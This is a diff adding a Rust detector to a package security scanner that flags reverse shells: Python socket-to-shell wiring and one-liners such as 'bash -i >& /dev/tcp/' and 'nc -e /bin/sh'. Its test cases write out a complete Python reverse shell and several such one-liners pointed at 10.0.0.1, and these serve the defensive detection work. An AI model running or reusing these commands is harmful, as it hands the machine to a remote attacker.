@@ -1,0 +1,183 @@
+//! `network.reverse-shell`: a socket connected out and wired to a shell —
+//! `os.dup2(s.fileno(), …)` / `pty.spawn` / a subprocess of `sh`/`bash`/`cmd.exe`
+//! with the socket as stdin — or a classic one-liner in a string (`bash -i >&
+//! /dev/tcp/…`, `nc -e /bin/sh`, `mkfifo /tmp/f`).
+//!
+//! Python: needs both a socket connect and a shell wiring in code in the same file.
+//! Tests are not skipped (a reverse shell has no business in tests either) but
+//! lowered to High.
+
+use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
+use crate::model::{Category, FileRole, Severity};
+use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, TextFile};
+use regex::Regex;
+use std::sync::LazyLock;
+
+pub static META: DetectorMeta = DetectorMeta {
+    id: "network.reverse-shell",
+    title: "Opens a reverse shell.",
+    category: Category::Network,
+    severity: Severity::Critical,
+    description:
+        "A shell wired to an outbound socket hands the machine to whoever listens at the other end.",
+};
+
+static CONNECT: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\.connect\s*\(|socket\.create_connection\s*\(").expect("connect")
+});
+static WIRE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
+});
+static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)").expect("one-liner")
+});
+
+pub struct ReverseShell;
+
+impl Detector for ReverseShell {
+    fn meta(&self) -> &'static DetectorMeta {
+        &META
+    }
+    fn literals(&self) -> &'static [&'static str] {
+        &[
+            "dup2",
+            "pty.spawn",
+            "/dev/tcp",
+            "/dev/udp",
+            "nc -e",
+            "ncat",
+            "-e /bin/",
+            "mkfifo",
+            "stdin=",
+        ]
+    }
+    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
+        let test = file.role == FileRole::TestOrDocs || pysrc::looks_like_test_path(file.path);
+        let sev = Some(if test {
+            Severity::High
+        } else {
+            Severity::Critical
+        });
+        let src = Source::new(file);
+        let mut n = 0;
+        for m in ONE_LINER.find_iter(file.text) {
+            if n >= MAX_HITS_PER_FILE {
+                return;
+            }
+            if src.python && src.kind_at(m.start()) != Kind::Str {
+                continue;
+            }
+            n += 1;
+            hits.push(
+                &META,
+                Hit {
+                    severity: sev,
+                    evidence: pysrc::evidence(file, m.start(), m.as_str().trim()),
+                },
+            );
+        }
+        if !src.python || !CONNECT.find_iter(file.text).any(|m| src.is_code(m.start())) {
+            return;
+        }
+        for m in WIRE.find_iter(file.text) {
+            if n >= MAX_HITS_PER_FILE {
+                return;
+            }
+            if !src.is_code(m.start()) {
+                continue;
+            }
+            n += 1;
+            let ind = m.as_str().split('(').next().unwrap_or("").trim();
+            hits.push(
+                &META,
+                Hit {
+                    severity: sev,
+                    evidence: pysrc::evidence(file, m.start(), ind),
+                },
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::scan::detectors::testutil::table;
+    use FileRole::*;
+    use Severity::*;
+
+    const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";
+
+    #[test]
+    fn cases() {
+        table(
+            &ReverseShell,
+            META.id,
+            &[
+                (
+                    "classic python",
+                    "setup.py",
+                    InstallTime,
+                    CLASSIC,
+                    Some((4, "os.dup2", Critical)),
+                ),
+                (
+                    "subprocess wired",
+                    "pkg/a.py",
+                    Runtime,
+                    "s.connect((h, p))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
+                    Some((2, "subprocess.call", Critical)),
+                ),
+                (
+                    "bash one-liner",
+                    "pkg/a.py",
+                    Runtime,
+                    "os.system(\"bash -i >& /dev/tcp/10.0.0.1/8080 0>&1\")\n",
+                    Some((1, "bash -i >& /dev/tcp/", Critical)),
+                ),
+                (
+                    "nc in shell script",
+                    "pkg/x.sh",
+                    Runtime,
+                    "nc 10.0.0.1 4444 -e /bin/sh\n",
+                    Some((1, "nc 10.0.0.1 4444 -e /bin/sh", Critical)),
+                ),
+                (
+                    "in tests lowered",
+                    "pkg/tests/t.py",
+                    Runtime,
+                    CLASSIC,
+                    Some((4, "os.dup2", High)),
+                ),
+                (
+                    "pty without socket (terminal tool)",
+                    "pkg/term.py",
+                    Runtime,
+                    "import pty\npty.spawn('/bin/bash')\n",
+                    None,
+                ),
+                (
+                    "dup2 for logging",
+                    "pkg/d.py",
+                    Runtime,
+                    "os.dup2(devnull.fileno(), 1)\n",
+                    None,
+                ),
+                (
+                    "one-liner in comment",
+                    "pkg/a.py",
+                    Runtime,
+                    "# bash -i >& /dev/tcp/h/1\nx = 1\n",
+                    None,
+                ),
+                (
+                    "dup2 onto other fds with a socket",
+                    "pkg/sel.py",
+                    Runtime,
+                    "s.connect(a)\nos.dup2(rd.fileno(), r)\n",
+                    None,
+                ),
+            ],
+        );
+    }
+}
